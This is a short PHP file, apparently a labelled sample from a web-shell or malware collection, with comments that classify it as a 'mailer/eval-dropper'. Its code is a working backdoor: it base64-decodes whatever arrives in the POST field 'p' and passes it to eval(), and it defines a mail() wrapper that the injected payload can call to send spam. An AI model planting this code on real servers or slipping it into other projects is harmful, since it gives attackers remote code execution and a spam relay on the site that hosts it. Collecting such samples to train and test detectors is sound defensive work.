<?php
// Family: mailer/eval-dropper
// Style: evaluator of a decoded POST payload next to a helper sender
// Trait: request payload decoded and evaluated; the same file defines a mail wrapper the payload calls
function snd($a, $b, $c, $d) { return mail($a, $b, $c, $d); }
if (isset($_POST['p'])) { eval(base64_decode($_POST['p'])); }
